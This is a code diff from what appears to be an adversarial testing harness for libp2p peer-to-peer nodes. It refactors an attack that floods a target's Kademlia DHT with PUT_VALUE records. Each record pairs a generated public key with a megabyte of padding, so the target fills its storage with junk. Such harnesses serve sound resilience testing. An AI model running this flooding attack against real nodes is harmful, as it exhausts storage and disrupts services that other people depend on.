@@ -1,7 +1,7 @@
 /** PUT_VALUE of public keys with a megabyte of padding, which a store of values would keep. */
 
 import { generateKeyPair, publicKeyToProtobuf } from "@libp2p/crypto/keys";
-import { type Attack, persist } from "../attack.ts";
+import { type Attack, keepOpening, persist } from "../attack.ts";
 import { nameOf, pour } from "../peer.ts";
 import { field, KAD, kademlia } from "../wire.ts";
 
@@ -14,8 +14,7 @@ export const attack: Attack = {
     persist(
       context,
       async (peer) => {
-        for (;;) {
-          const stream = await peer.open(nameOf(context.target.chain, "kad"));
+        await keepOpening(context, peer, nameOf(context.target.chain, "kad"), async (stream) => {
           const { publicKey } = await generateKeyPair("Ed25519");
           const key = Buffer.concat([Buffer.from("/pk/"), publicKey.toMultihash().bytes]);
           const value = Buffer.concat([publicKeyToProtobuf(publicKey), field(15, PADDING)]);
@@ -26,7 +25,7 @@ export const attack: Attack = {
           context.count("messages");
           if (!(await pour(stream, kademlia(KAD.putValue, key, record)))) context.count("refusedMessages");
           else await stream.close();
-        }
+        });
       },
       false,
     ),
